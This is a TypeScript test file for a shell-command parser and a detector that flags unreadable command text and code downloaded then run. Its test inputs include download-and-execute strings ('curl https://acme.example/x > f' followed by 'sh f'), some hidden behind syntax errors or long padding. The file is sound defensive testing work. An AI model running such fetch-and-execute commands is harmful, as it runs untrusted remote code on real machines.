import { describe, expect, it } from 'vitest';

import { plainText } from '../../../src/surfaces/mapped-text.ts';
import { findRemoteCode, unreadPart } from '../../../src/surfaces/shell/detect/index.ts';
import { parseCommands } from '../../../src/surfaces/shell/index.ts';

const read = (text: string): ReturnType<typeof parseCommands> => parseCommands(plainText(text, 0));

describe('what could not be read', () => {
  it('tells a syntax error from a bound', () => {
    expect(read('echo ok').cut).toBeNull();
    expect(read('echo "open\nls').cut).toBe('syntax');
    expect(read(`${'sh -c "'.repeat(1)}${'$('.repeat(200)}ls`).cut).not.toBeNull();
    expect(read('true;'.repeat(9000)).cut).toBe('limit');
  });

  it('is silent about a plain syntax error', () => {
    expect(unreadPart(read('echo "open\nls'))).toBeNull();
    expect(unreadPart(read('a ) b\nls'))).toBeNull();
  });

  it('points at a program that a syntax error hides', () => {
    const text = 'ls\na ) curl https://acme.example/x\nls';
    expect(unreadPart(read(text))).toEqual([text.indexOf(')'), text.lastIndexOf('ls')]);
  });

  it('points at a text behind a bound only when it is worth hiding', () => {
    expect(unreadPart(read('true;'.repeat(9000)))).toBeNull();
    expect(unreadPart(read(`${'true;'.repeat(9000)} curl https://acme.example/x`))).not.toBeNull();
  });

  it('follows a download through many writers and says when it cannot', () => {
    expect(findRemoteCode(read(`curl https://acme.example/x > f\n${'echo >> f\n'.repeat(20)}sh f`))).toHaveLength(1);
    const long = read(`curl https://acme.example/x > f\n${'echo >> f\n'.repeat(200)}sh f`);
    expect(findRemoteCode(long).length === 1 || unreadPart(long) !== null).toBe(true);
  });
});
